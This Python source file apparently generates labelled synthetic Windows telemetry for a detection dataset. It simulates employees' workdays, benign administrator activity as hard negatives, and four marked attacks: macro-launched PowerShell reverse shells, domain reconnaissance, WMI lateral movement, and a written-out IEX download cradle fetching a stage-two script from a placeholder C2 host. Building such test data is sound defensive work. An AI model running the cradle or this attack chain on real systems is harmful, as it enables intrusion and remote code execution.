"""Each device's scenario: its workday, the four attacks and the hard negatives."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import timedelta

from .benign import Day, background, logon, morning_logon, patch_reboot, pre_day_session, workday
from .catalog import (
    BINARIES,
    C2_CRADLE,
    C2_ENCODED,
    C2_FILE,
    C2_PLAIN,
    FS01,
    INTRANET,
    NETWORK_SERVICE,
    NETWORK_TABLE,
    OFFICE_DIR,
    SQL01,
    SYSTEM,
    Account,
    Person,
    Proc,
)
from .device import (
    DOCS_GET_WINEVENT,
    DOCS_PWSH_ENCODED,
    DOCS_UPDATE_HELP,
    POWERSHELL_EXE,
    REVSHELLS_PAYLOAD,
    REVSHELLS_PS2,
    Device,
    encode_command,
    parse_iso,
)

# --- Scenarios of the devices -------------------------------------------------------------

def scenario_finance(day: Day, dev: Device, who: Person) -> None:
    """ws-fin-014: Alice opens a mailed Word document; its macro starts a reverse shell.
    Later the attacker pulls a script through a download cradle from that shell."""
    rng = dev.rng
    pre_day_session(day, dev, who.account)
    background(day, dev)
    workday(day, dev, who, rng.uniform(8.0, 8.4), rng.uniform(17.0, 17.6))
    user = who.account.name
    outlook = dev.procs["OUTLOOK"]
    cache = (f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
             "\\7QX2M1KD\\Invoice_INV-20448.doc")
    word = dev.spawn(outlook, "WINWORD", f'"{OFFICE_DIR}WINWORD.EXE" /n "{cache}" /o ""',
                     day.at(9, 13, 41))
    shell = REVSHELLS_PS2.format(ip=C2_PLAIN[0], port=C2_PLAIN[1])
    cmd = dev.spawn(word, "cmd", f'cmd.exe /c powershell -nop -c "{shell}"', day.at(9, 14, 6))
    dev.console(cmd)
    ps = dev.child(cmd, "powershell", f'powershell  -nop -c "{shell}"', lo=30, hi=90)
    net = dev.connect(ps, ps.created + dev.ms(400, 900), ("", C2_PLAIN[0]), C2_PLAIN[1],
                      url=False)
    day.mark_process("attack-1-tcpclient-plaintext", dev, ps)
    day.mark_process("attack-1-tcpclient-plaintext/launcher", dev, cmd)
    day.mark("attack-1-tcpclient-plaintext/c2", dev, NETWORK_TABLE, net)
    # The operator's commands run as children of the shell.
    for minute, key, command in ((16, "whoami", '"C:\\Windows\\system32\\whoami.exe" /all'),
                                 (17, "ipconfig", '"C:\\Windows\\system32\\ipconfig.exe" /all')):
        dev.spawn(ps, key, command, day.at(9, minute, rng.uniform(0, 59)))
    net_exe = dev.spawn(ps, "net", '"C:\\Windows\\system32\\net.exe" group "Domain Admins" '
                        "/domain", day.at(9, 19, rng.uniform(0, 59)))
    dev.child(net_exe, "net1", 'C:\\Windows\\system32\\net1 group "Domain Admins" /domain',
              lo=5, hi=30)
    cradle_url = f"http://{C2_CRADLE[0]}:{C2_CRADLE[1]}/stage2.ps1"
    cradle = dev.spawn(ps, "powershell", "powershell.exe -nop -w hidden -c \"IEX (New-Object "
                       f"Net.WebClient).DownloadString('{cradle_url}')\"", day.at(19, 27, 3))
    net = dev.connect(cradle, cradle.created + dev.ms(300, 800), ("", C2_CRADLE[0]),
                      C2_CRADLE[1], url=False)
    day.mark_process("attack-3-download-cradle", dev, cradle)
    day.mark("attack-3-download-cradle/c2", dev, NETWORK_TABLE, net)
    # The lateral movement of attack 4 starts here: WMI from the shell to the application server.
    lateral = dev.connect(ps, day.at(21, 43, 8), ("srv-app-02.corp.contoso.com", "10.20.2.22"),
                          135)
    day.moments["wmi-rpc"] = parse_iso(lateral["Timestamp"])
    day.mark("attack-4-file-script-public-connection/wmi-from-ws-fin-014", dev, NETWORK_TABLE,
             lateral)


def scenario_hr(day: Day, dev: Device, who: Person) -> None:
    """ws-hr-022: an Excel attachment starts the same shell, -EncodedCommand-encoded."""
    rng = dev.rng
    pre_day_session(day, dev, who.account)
    background(day, dev)
    workday(day, dev, who, rng.uniform(8.5, 9.0), rng.uniform(17.2, 17.8))
    user = who.account.name
    cache = (f"C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook"
             "\\R2B8W0QZ\\Payroll adjustments Nov.xlsm")
    excel = dev.spawn(dev.procs["OUTLOOK"], "EXCEL", f'"{OFFICE_DIR}EXCEL.EXE" "{cache}"',
                      day.at(13, 51, 22))
    payload = encode_command(REVSHELLS_PAYLOAD.format(ip=C2_ENCODED[0], port=C2_ENCODED[1]))
    cmd = dev.spawn(excel, "cmd", f"cmd.exe /c powershell -nop -w hidden -e {payload}",
                    day.at(13, 52, 4))
    dev.console(cmd)
    ps = dev.child(cmd, "powershell", f"powershell  -nop -w hidden -e {payload}", lo=30, hi=90)
    net = dev.connect(ps, ps.created + dev.ms(500, 1_200), ("", C2_ENCODED[0]), C2_ENCODED[1],
                      url=False)
    day.mark_process("attack-2-tcpclient-encoded", dev, ps)
    day.mark_process("attack-2-tcpclient-encoded/launcher", dev, cmd)
    day.mark("attack-2-tcpclient-encoded/c2", dev, NETWORK_TABLE, net)


def scenario_engineer(day: Day, dev: Device, who: Person) -> None:
    """ws-eng-031: rebooted for patches overnight; a developer with pwsh, git and VS Code."""
    rng = dev.rng
    patch_reboot(day, dev, day.at(3, rng.uniform(0, 20)))
    background(day, dev)
    begin = rng.uniform(8.6, 9.2)
    morning_logon(day, dev, who, day.at(begin))
    workday(day, dev, who, begin + 0.1, rng.uniform(17.8, 18.4))
    explorer, account = dev.procs["explorer"], who.account
    terminal = dev.spawn(explorer, "WindowsTerminal", f'"{BINARIES["WindowsTerminal"].path}" ',
                         day.at(begin + 0.3))
    pwsh = dev.child(terminal, "pwsh", '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoLogo',
                     lo=200, hi=800)
    code = dev.spawn(explorer, "Code", '"C:\\Program Files\\Microsoft VS Code\\Code.exe" ',
                     day.at(begin + 0.35))
    for hour in sorted(rng.uniform(begin + 0.4, 17.5) for _ in range(5)):
        git = dev.spawn(pwsh, "git", '"C:\\Program Files\\Git\\cmd\\git.exe" fetch origin',
                        day.at(hour))
        remote = dev.child(git, "git-remote-https", f'"{BINARIES["git-remote-https"].path}" '
                           "origin https://github.com/contoso/orders-api.git", lo=30, hi=120)
        dev.connect(remote, remote.created + dev.ms(50, 400), ("github.com", "140.82.121.4"), 443)
    for hour in sorted(rng.uniform(begin + 0.4, 17.5) for _ in range(6)):
        dev.connect(code, day.at(hour), rng.choice([
            ("marketplace.visualstudio.com", "13.107.42.18"),
            ("update.code.visualstudio.com", "13.107.246.40"),
            ("api.github.com", "140.82.121.6")]), 443)
    shell = dev.child(code, "pwsh", '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -noexit '
                      '-command "try { . \\"c:\\Program Files\\Microsoft VS Code\\resources\\app'
                      '\\out\\vs\\workbench\\contrib\\terminal\\common\\scripts\\'
                      'shellIntegration.ps1\\" } catch {}"', lo=4_000, hi=20_000)
    dev.console(shell)
    for hour in sorted(rng.uniform(begin + 0.4, 17.8) for _ in range(14)):
        dev.spawn(code, "git", '"C:\\Program Files\\Git\\cmd\\git.exe" status -z -uall',
                  day.at(hour))
    for hour in sorted(rng.uniform(begin + 0.5, 17.5) for _ in range(4)):
        build = dev.spawn(shell, "dotnet", '"C:\\Program Files\\dotnet\\dotnet.exe" build '
                          ".\\src\\Orders.Api.sln -c Debug", day.at(hour))
        dev.child(build, "dotnet", '"C:\\Program Files\\dotnet\\dotnet.exe" "C:\\Program Files'
                  '\\dotnet\\sdk\\10.0.100\\MSBuild.dll" -nologo -nodemode:1 -nodeReuse:true '
                  "-low:false", lo=900, hi=3_000)
        dev.connect(build, build.created + dev.ms(500, 4_000), ("api.nuget.org", "13.107.246.67"),
                    443)
    cmd = dev.spawn(explorer, "cmd", '"C:\\Windows\\system32\\cmd.exe" ', day.at(14, 8))
    dev.console(cmd)
    encoded = dev.spawn(cmd, "pwsh", DOCS_PWSH_ENCODED, day.at(14, 9, 37))
    day.mark_process("pwsh-encoded-dir", dev, encoded)
    dev.spawn(pwsh, "pwsh", '"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -NoProfile -Command '
              '"Invoke-Pester -Path .\\tests -Output Detailed"', day.at(15, 41), account)


def scenario_it(day: Day, dev: Device, who: Person, admin: Account) -> Device:
    """ws-it-007: the administrator's day: a run-as admin console, remote checks, RDP."""
    rng = dev.rng
    pre_day_session(day, dev, who.account)
    background(day, dev)
    workday(day, dev, who, rng.uniform(7.6, 8.0), rng.uniform(16.5, 17.0))
    seclogon = dev.procs["seclogon"]
    console = dev.spawn(seclogon, "cmd", '"C:\\Windows\\system32\\cmd.exe" ', day.at(8, 21),
                        admin)
    dev.console(console)
    dev.spawn(seclogon, "mmc", '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\'
              'dsa.msc"', day.at(8, 24), admin)

    def ps(hour: float, command: str, key: str | None = None) -> Proc:
        proc = dev.spawn(console, "powershell", f'powershell.exe -NoProfile -Command "{command}"',
                         day.at(hour))
        if key:
            day.mark_process(key, dev, proc)
        return proc

    checks = ps(8.55, "Get-Service -ComputerName srv-app-02 -Name ContosoOrders, W3SVC | "
                "Format-Table -AutoSize", "admin-get-service")
    rpc = dev.connect(checks, checks.created + dev.ms(200, 900),
                      ("srv-app-02.corp.contoso.com", "10.20.2.22"), 135)
    day.moments["get-service-rpc"] = parse_iso(rpc["Timestamp"])
    ps(8.6, "Get-WinEvent -LogName System -MaxEvents 50 | Where-Object LevelDisplayName -eq "
       "'Error' | Format-List TimeCreated, Id, Message")
    dev.spawn(console, "powershell", DOCS_GET_WINEVENT, day.at(8.75))
    probe = ps(9.3, "$client = New-Object System.Net.Sockets.TcpClient('sql01.corp.contoso.com', "
               "1433); $client.Connected; $client.Close()", "tcpclient-port-probe")
    row = dev.connect(probe, probe.created + dev.ms(300, 700), SQL01, 1433)
    day.mark("tcpclient-port-probe/network", dev, NETWORK_TABLE, row)
    tnc = ps(9.35, "Test-NetConnection -ComputerName fs01.corp.contoso.com -Port 445",
             "test-netconnection")
    dev.connect(tnc, tnc.created + dev.ms(900, 2_000), FS01, 445)
    tnc = ps(9.4, "Test-NetConnection -ComputerName srv-app-02.corp.contoso.com -Port 5986 "
             "-InformationLevel Quiet")
    dev.connect(tnc, tnc.created + dev.ms(900, 2_000), ("srv-app-02.corp.contoso.com",
                                                        "10.20.2.22"), 5986, "ConnectionFailed")
    web = ps(11.2, "Invoke-WebRequest -Uri https://intranet.corp.contoso.com/status/health "
             "-UseBasicParsing | Select-Object -ExpandProperty StatusCode",
             "invoke-webrequest-intranet")
    dev.connect(web, web.created + dev.ms(400, 1_200), INTRANET, 443)
    ps(11.5, "Update-MpSignature -UpdateSource MicrosoftUpdateServer")
    dev.spawn(console, "MpCmdRun", '"C:\\Program Files\\Windows Defender\\MpCmdRun.exe" '
              "-SignatureUpdate", day.at(11.52))
    dev.spawn(console, "usoclient", "usoclient StartInteractiveScan", day.at(11.6))
    helper = dev.spawn(console, "powershell", DOCS_UPDATE_HELP, day.at(15.1))
    day.mark_process("update-help-public", dev, helper)
    for host in (("go.microsoft.com", "23.55.239.123"),
                 ("pshelpprod.blob.core.windows.net", "20.60.40.4")):
        row = dev.connect(helper, helper.created + dev.ms(800, 4_000), host, 443)
        day.mark(f"update-help-public/{host[0]}", dev, NETWORK_TABLE, row)
    ps(15.6, "Get-ADUser -Filter 'Enabled -eq $false' -SearchBase "
       "'OU=Leavers,DC=corp,DC=contoso,DC=com' | Measure-Object")
    rdp = dev.spawn(dev.procs["explorer"], "mstsc", '"C:\\Windows\\system32\\mstsc.exe" '
                    "/v:srv-app-02.corp.contoso.com", day.at(10, 2, 11))
    session = dev.connect(rdp, rdp.created + dev.ms(300, 900),
                          ("srv-app-02.corp.contoso.com", "10.20.2.22"), 3389)
    day.moments["rdp"] = parse_iso(session["Timestamp"])
    return dev


def scenario_sales(day: Day, dev: Device, who: Person) -> None:
    rng = dev.rng
    patch_reboot(day, dev, day.at(3, rng.uniform(25, 45)))
    background(day, dev)
    begin = rng.uniform(8.2, 8.7)
    morning_logon(day, dev, who, day.at(begin))
    workday(day, dev, who, begin + 0.1, rng.uniform(16.8, 17.4))


def scenario_server(day: Day, dev: Device, admin: Account, workstations: Sequence[Device],
                    it_ws: Device) -> None:
    """srv-app-02: the Contoso Orders API, jobs, an admin RDP session, and attack 4 at night."""
    rng = dev.rng
    background(day, dev)
    schedule, api = dev.procs["Schedule"], dev.procs["ContosoOrders"]
    for hour in range(24):
        check = dev.spawn(schedule, "powershell", "powershell.exe -NoProfile -NonInteractive "
                          "-WindowStyle Hidden -ExecutionPolicy Bypass -File "
                          "D:\\Jobs\\Check-AppHealth.ps1", day.at(hour, 5, rng.uniform(0, 3)),
                          SYSTEM)
        dev.console(check)
        row = dev.connect(check, check.created + dev.ms(900, 2_500), SQL01, 1433)
        if hour == 21:
            day.mark_process("hourly-health-check-file", dev, check)
            day.mark("hourly-health-check-file/network", dev, NETWORK_TABLE, row)
    export_at = day.at(1, 30, rng.uniform(0, 5))
    job = dev.spawn(schedule, "cmd", 'C:\\Windows\\system32\\cmd.exe /c "D:\\Jobs\\'
                    'nightly_export.cmd"', export_at, SYSTEM)
    dev.console(job)
    yesterday = (day.start - timedelta(days=1)).strftime("%Y%m%d")
    sql = dev.child(job, "SQLCMD", f"sqlcmd  -S sql01.corp.contoso.com -E -i D:\\Jobs\\"
                    f"export_orders.sql -o D:\\Exports\\orders_{yesterday}.csv", lo=80, hi=300)
    dev.connect(sql, sql.created + dev.ms(50, 300), SQL01, 1433)
    dev.spawn(job, "Robocopy", "robocopy  D:\\Exports \\\\fs01.corp.contoso.com\\exports$\\"
              "srv-app-02 /MIR /R:2 /W:5 /NP /LOG:D:\\Jobs\\logs\\robocopy.log",
              sql.created + timedelta(seconds=rng.uniform(40, 140)))
    for _ in range(4):
        dev.connect(api, day.between(0.5, 23.5), SQL01, 1433)
    clients = [w for w in workstations if w is not dev]
    when = 7.5
    while when < 18.5:
        when += rng.uniform(0.08, 0.3)
        dev.accept(api, day.at(when), rng.choice(clients).ip, 8443)
    # The administrator's RDP session (from ws-it-007 at 10:02) and a service restart.
    # The server's clock runs a few milliseconds apart from the workstations'.
    dev.accept(dev.procs["TermService"], day.moments["rdp"] + dev.ms(2, 40), it_ws.ip, 3389)
    explorer = logon(dev, admin, day.moments["rdp"] + dev.ms(900, 2_000), rdp=True)
    dev.accept(dev.procs["RPCSS"], day.moments["get-service-rpc"] + dev.ms(2, 40), it_ws.ip, 135)
    console = dev.spawn(explorer, "powershell", f'"{POWERSHELL_EXE}" ', day.at(10, 6, 40))
    dev.console(console)
    for minute, command in (
            (7, "Get-Service ContosoOrders, W3SVC"),
            (9, "Get-WinEvent -LogName Application -MaxEvents 20"),
            (12, "Restart-Service -Name ContosoOrders -Force")):
        dev.spawn(console, "powershell", f'powershell.exe -NoProfile -Command "{command}"',
                  day.at(10, minute, rng.uniform(0, 59)))
    # Attack 4: WMI from ws-fin-014 starts a script from C:\Users\Public; nothing in its command
    # line looks suspicious, but it calls out to a public address.
    fin = next(w for w in workstations if w.name.startswith("ws-fin"))
    inbound = dev.accept(dev.procs["RPCSS"], day.moments["wmi-rpc"] + dev.ms(2, 40), fin.ip, 135)
    wmi = dev.spawn(dev.procs["DcomLaunch"], "WmiPrvSE",
                    "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
                    day.at(21, 43, 11), NETWORK_SERVICE)
    stolen = replace(admin, logon_id=rng.randrange(10**8, 10**9), session=0)
    ps = dev.spawn(wmi, "powershell",
                   "powershell.exe -nop -w hidden -File C:\\Users\\Public\\x.ps1",
                   day.at(21, 43, 12), stolen)
    dev.console(ps)
    net = dev.connect(ps, ps.created + dev.ms(600, 1_500), ("", C2_FILE[0]), C2_FILE[1],
                      url=False)
    day.mark_process("attack-4-file-script-public-connection", dev, ps)
    day.mark("attack-4-file-script-public-connection/c2", dev, NETWORK_TABLE, net)
    day.mark("attack-4-file-script-public-connection/wmi-inbound", dev, NETWORK_TABLE, inbound)


